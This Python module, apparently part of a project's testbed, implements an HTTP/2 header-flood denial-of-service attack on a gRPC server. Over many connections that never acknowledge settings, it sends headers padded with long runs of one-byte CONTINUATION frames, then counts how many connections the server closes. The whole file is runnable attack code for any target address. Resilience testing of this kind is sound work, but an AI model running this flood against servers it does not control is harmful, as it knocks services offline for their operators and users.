"""An attack on gRPC: headers of one byte each, over connections that never acknowledge settings.

`python -m testbed.header_flood HOST:PORT NUMBER PAUSE` attacks from a process of its own.
"""

import ssl
import sys
import time
from contextlib import ExitStack

from testbed.http2 import (
    CONTINUATION,
    END_HEADERS,
    FRAME_BYTES,
    HEADERS,
    Connection,
    frame,
    header_block,
)

METHOD = "fetchml.v1.QueueService/GetQueue"
FIELD = b"\xa0"
"""A byte that names a whole field of HPACK's static table."""
FRAMES = 25
"""400 KB, at which gRPC itself ends a call."""
LEAST_SECONDS = 1.0
MOST_SECONDS = 10.0


def flood(connections: list[Connection], *, ends: bool) -> None:
    """Over each connection, send one call's headers, until the server has closed some. `ends`:
    whether the headers end."""
    fields = frame(CONTINUATION, 0, 1, FIELD * FRAME_BYTES) * FRAMES
    end = frame(CONTINUATION, END_HEADERS, 1) if ends else b""
    data = frame(HEADERS, 0, 1, header_block(METHOD, [])) + fields + end
    left = dict.fromkeys(connections, data)
    began = time.monotonic()
    while (passed := time.monotonic() - began) < MOST_SECONDS:
        for connection, unsent in left.items():
            if unsent and not connection.is_closed:
                left[connection] = unsent[connection.send_some(unsent) :]
            connection.look()
        if passed > LEAST_SECONDS and any(connection.is_closed for connection in left):
            return
        time.sleep(0.005)  # The server's processors are the attacker's as well.


def attack(address: str, number: int, tls: ssl.SSLContext | None = None, pause: float = 0.0) -> int:
    """Flood three times, each time over `number` new connections at once. Return how many of them
    the server closed. `pause`: seconds between connecting and flooding. In them the server notices
    the connections, which nothing shows to a client."""
    closed = 0
    for ends in (False, True, False):
        with ExitStack() as stack:
            opened = [
                stack.enter_context(Connection(address, acknowledges=False, tls=tls))
                for _ in range(number)
            ]
            time.sleep(pause)
            flood(opened, ends=ends)
            closed += sum(connection.is_closed for connection in opened)
    return closed


if __name__ == "__main__":
    attack(sys.argv[1], int(sys.argv[2]), pause=float(sys.argv[3]))
